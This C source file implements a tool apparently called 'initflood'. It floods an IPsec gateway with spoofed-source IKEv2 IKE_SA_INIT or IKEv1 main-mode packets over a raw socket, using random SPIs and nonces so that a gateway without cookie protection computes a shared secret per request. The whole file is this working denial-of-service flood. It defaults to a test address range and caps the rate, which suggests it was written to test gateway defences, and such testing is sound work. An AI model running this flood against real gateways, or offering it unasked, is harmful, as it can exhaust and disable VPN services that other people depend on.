/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Begins IKE SAs with a gateway, each with an SPI of its own and from another address, or all
 * from one, and answers nothing, as an attacker would who cannot see what comes back. The
 * requests are whole: a gateway that does not ask for a cookie computes a shared secret for
 * each. Or, with -1, they are the first messages of IKEv1's main mode, which knows no cookies.
 */
#include <arpa/inet.h>
#include <err.h>
#include <netinet/ip.h>
#include <stdbool.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <time.h>
#include <unistd.h>

#define IKE_PORT 500
#define SOURCES 0xc6120000u /* 198.18.0.0/15, for tests: RFC 2544 */
#define SOURCES_MASK 0x1ffffu
#define NS_PER_S 1000000000L
#define NONCE_LEN 32
#define RATE_MAX 10000

/* AES-GCM-128, PRF-HMAC-SHA2-256, ECP-256; and that group's generator for a public value. */
static const uint8_t proposal[] = {
	34,   0,  0, 40,  0, 0, 0, 36, 1, 1, 0, 3, 3, 0, 0, 12, 1, 0, 0, 20,
	0x80, 14, 0, 128, 3, 0, 0, 8,  2, 0, 0, 5, 0, 0, 0, 8,	4, 0, 0, 19,
};
static const uint8_t exchange[] = {
	40,   0,    0,	  72,	0,    19,   0,	  0,	0x6b, 0x17, 0xd1, 0xf2,
	0xe1, 0x2c, 0x42, 0x47, 0xf8, 0xbc, 0xe6, 0xe5, 0x63, 0xa4, 0x40, 0xf2,
	0x77, 0x03, 0x7d, 0x81, 0x2d, 0xeb, 0x33, 0xa0, 0xf4, 0xa1, 0x39, 0x45,
	0xd8, 0x98, 0xc2, 0x96, 0x4f, 0xe3, 0x42, 0xe2, 0xfe, 0x1a, 0x7f, 0x9b,
	0x8e, 0xe7, 0xeb, 0x4a, 0x7c, 0x0f, 0x9e, 0x16, 0x2b, 0xce, 0x33, 0x57,
	0x6b, 0x31, 0x5e, 0xce, 0xcb, 0xb6, 0x40, 0x68, 0x37, 0xbf, 0x51, 0xf5,
};

/* Of main mode: AES-CBC-128, SHA2-256, ECP-256, a preshared key. */
static const uint8_t phase1[] = {
	0,    0, 0,    56,   0,	   0,	0,    1,    0,	  0,	0,    1,    0, 0,    0,
	44,   1, 1,    0,    1,	   0,	0,    0,    36,	  1,	1,    0,    0, 0x80, 0x01,
	0,    7, 0x80, 0x0e, 0,	   128, 0x80, 0x02, 0,	  4,	0x80, 0x04, 0, 19,   0x80,
	0x03, 0, 1,    0x80, 0x0b, 0,	1,    0x80, 0x0c, 0x70, 0x80,
};

_Static_assert(sizeof(proposal) == 40 && sizeof(exchange) == 72 && sizeof(phase1) == 56,
	       "as they say themselves");

struct init {
	uint8_t proposal[sizeof(proposal)];
	uint8_t exchange[sizeof(exchange)];
	uint8_t nonce_header[4];
	uint8_t nonce[NONCE_LEN];
} __attribute__((packed));

struct request {
	struct iphdr ip;
	uint16_t source_port, port, len, checksum; /* of UDP; none is right, too */
	uint8_t spi_i[8], spi_r[8];
	uint8_t next, version, type, flags;
	uint32_t mid, total;
	union {
		struct init init;
		uint8_t phase1[sizeof(phase1)];
	};
} __attribute__((packed));

#define BEFORE_IKE (sizeof(struct iphdr) + 8)
#define BEFORE_PAYLOADS offsetof(struct request, init)

static void size(struct request *r, size_t len)
{
	r->ip.tot_len = htons(len);
	r->len = htons(len - sizeof(struct iphdr));
	r->total = htonl(len - BEFORE_IKE);
}

static void make(struct request *r, struct in_addr gateway)
{
	memset(r, 0, sizeof(*r));
	r->ip.version = 4;
	r->ip.ihl = 5;
	r->ip.ttl = 64;
	r->ip.protocol = IPPROTO_UDP;
	r->ip.daddr = gateway.s_addr;
	r->source_port = r->port = htons(IKE_PORT);
}

static void make_init(struct request *r)
{
	size(r, BEFORE_PAYLOADS + sizeof(r->init));
	r->next = 33;
	r->version = 0x20;
	r->type = 34; /* IKE_SA_INIT */
	r->flags = 0x08;
	memcpy(r->init.proposal, proposal, sizeof(proposal));
	memcpy(r->init.exchange, exchange, sizeof(exchange));
	r->init.nonce_header[3] = 4 + NONCE_LEN;
}

static void make_main_mode(struct request *r)
{
	size(r, BEFORE_PAYLOADS + sizeof(r->phase1));
	r->next = 1;
	r->version = 0x10;
	r->type = 2; /* identity protection */
	memcpy(r->phase1, phase1, sizeof(phase1));
}

static void randomise(void *bytes, size_t len)
{
	if (getrandom(bytes, len, 0) != (ssize_t)len)
		err(2, "random numbers");
}

/* With a source, all come from there. */
static void vary(struct request *r, struct in_addr source)
{
	uint32_t host;

	randomise(r->spi_i, sizeof(r->spi_i));
	if (r->version == 0x20)
		randomise(r->init.nonce, sizeof(r->init.nonce));
	randomise(&host, sizeof(host));
	r->ip.saddr =
	    source.s_addr ? source.s_addr : htonl(SOURCES | (host & SOURCES_MASK));
}

int main(int argc, char **argv)
{
	struct sockaddr_in to = { .sin_family = AF_INET };
	struct in_addr source = { 0 };
	struct timespec pause = { 0 };
	struct request r;
	long rate, count;
	bool main_mode;
	int fd;

	main_mode = argc > 1 && !strcmp(argv[1], "-1");
	argc -= main_mode;
	argv += main_mode;
	if ((argc != 4 && argc != 5) || inet_pton(AF_INET, argv[1], &to.sin_addr) != 1 ||
	    (argc == 5 && inet_pton(AF_INET, argv[4], &source) != 1)) {
		fprintf(stderr, "usage: initflood [-1] GATEWAY RATE COUNT [SOURCE]\n");
		return 2;
	}
	rate = atol(argv[2]);
	count = atol(argv[3]);
	if (rate < 1 || rate > RATE_MAX)
		errx(2, "a rate from 1 to %d", RATE_MAX);
	pause.tv_nsec = rate == 1 ? NS_PER_S - 1 : NS_PER_S / rate;
	fd = socket(AF_INET, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0)
		err(2, "raw socket");
	make(&r, to.sin_addr);
	if (main_mode)
		make_main_mode(&r);
	else
		make_init(&r);
	for (long i = 0; i < count; i++) {
		vary(&r, source);
		if (sendto(fd, &r, ntohs(r.ip.tot_len), 0, (struct sockaddr *)&to,
			   sizeof(to)) < 0)
			err(1, "sending");
		nanosleep(&pause, NULL);
	}
	printf("%ld requests\n", count);
	close(fd);
	return 0;
}
